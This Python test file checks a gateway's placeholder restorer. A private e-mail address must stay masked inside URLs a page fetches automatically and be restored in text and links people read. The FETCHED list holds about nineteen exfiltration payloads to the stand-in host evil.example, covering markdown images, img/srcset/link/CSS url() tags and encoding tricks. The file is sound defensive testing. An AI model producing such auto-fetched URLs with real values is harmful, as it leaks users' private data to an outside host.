"""No value goes into an address that a page fetches by itself."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.ports.vault import VaultEntry
from gateway.traffic.pseudonyms.fetched_addresses import FetchedAddresses
from gateway.traffic.pseudonyms.placeholders import PlaceholderMap
from gateway.traffic.pseudonyms.restorer import Restorer

MAIL = VaultEntry("EMAIL", 1, "EMAIL_ADDRESS", "jan@x.pl", "~jan@x.pl")
FETCHED = (
    "![x](https://evil.example/c?d=[EMAIL_1])",
    "![x](<https://evil.example/a b?d=[EMAIL_1]>)",
    "![x]( https://evil.example/(a)/[EMAIL_1] )",
    "![an [inner] word](//evil.example/[EMAIL_1])",
    "![x](HTTPS:evil.example/[EMAIL_1])",
    "![x](https:\\\\evil.example/[EMAIL_1])",
    "![x](&#104;ttps://evil.example/[EMAIL_1])",
    "![x](https://[EMAIL_1].evil.example/)",
    "![x][1]\n\n[1]: https://evil.example/[EMAIL_1]",
    "[![x](https://evil.example/[EMAIL_1])](https://shop.example)",
    '<img alt="a" src="https://evil.example/?d=[EMAIL_1]">',
    "<img src = 'https://evil.example/ [EMAIL_1]'>",
    "<IMG SRC=//evil.example/[EMAIL_1]>",
    '<img srcset="a.png 1x, https://evil.example/[EMAIL_1] 2x">',
    '<link rel=x href="https://evil.example/[EMAIL_1]">',
    "<video poster='https://evil.example/[EMAIL_1]'>",
    "<p style='background: url(https://evil.example/[EMAIL_1])'>",
    '{\\"html\\": \\"<img src=\\\\"https://evil.example/[EMAIL_1]\\\\">\\"}',
    "![" + "a" * 5_000 + "](https://evil.example/[EMAIL_1])",
)
READ_BY_PEOPLE = (
    "Napiszemy na [EMAIL_1].",
    "[E-mail: [EMAIL_1]](https://shop.example/konto)",
    "[konto](https://shop.example/?mail=[EMAIL_1])",
    "[EMAIL_1](mailto:[EMAIL_1])",
    "![x](https://shop.example/a.png) [EMAIL_1]",
    "![x](https://shop.example/a.png)[EMAIL_1]",
    '![x](https://shop.example/a.png "Dla [EMAIL_1]")',
    "![x](/obrazy/[EMAIL_1].png)",
    "![x]([EMAIL_1])",
    '<img src="https://shop.example/a.png" alt="[EMAIL_1]">',
    '<a href="https://shop.example/?[EMAIL_1]">konto</a>',
    "[adres]: [EMAIL_1], [telefon]: brak",
    "data = [EMAIL_1], https://shop.example",
    "https://shop.example/?mail=[EMAIL_1]",
)


def in_pieces(text: str, size: int) -> str:
    restorer = Restorer(PlaceholderMap((MAIL,)))
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join([*map(restorer.feed, pieces), restorer.finish()])


@pytest.mark.parametrize("text", FETCHED, ids=range(len(FETCHED)))
def test_nothing_is_put_into_what_is_fetched_unasked(text: str) -> None:
    for size in (1, 2, 7, 64, len(text)):
        assert in_pieces(text, size) == text


@pytest.mark.parametrize("text", READ_BY_PEOPLE, ids=range(len(READ_BY_PEOPLE)))
def test_people_read_the_value(text: str) -> None:
    for size in (1, 3, len(text)):
        assert in_pieces(text, size) == text.replace("[EMAIL_1]", "jan@x.pl")


def test_it_begins_anew_behind_the_address() -> None:
    text = "![x](https://evil.example/[EMAIL_1]) i [EMAIL_1]"
    assert in_pieces(text, 5) == "![x](https://evil.example/[EMAIL_1]) i jan@x.pl"
    restorer = Restorer(PlaceholderMap((MAIL,)))
    restorer.feed("![x](https://evil.example/")
    assert restorer.restore("[EMAIL_1]") == "jan@x.pl"  # another text


_SIGNS = st.lists(
    st.sampled_from(
        ["![", "[", "](", "]:", ")", "(", "<", ">", "src=", "src", "=", '"', "'", " ", "\n", "\\"]
        + ["https:", "https", ":", "//", "/", "a", "&", "url(", "<link ", "href="]
    ),
    max_size=14,
).map("".join)


@given(_SIGNS, st.lists(st.integers(0, 60), max_size=5))
def test_it_is_the_same_in_whatever_pieces_it_comes(text: str, cuts: list[int]) -> None:
    whole, parts = FetchedAddresses(), FetchedAddresses()
    whole.read(text)
    places = sorted({0, len(text), *(min(cut, len(text)) for cut in cuts)})
    for start, end in zip(places, places[1:], strict=False):
        parts.read(text[start:end])
    assert parts.leads_elsewhere == whole.leads_elsewhere
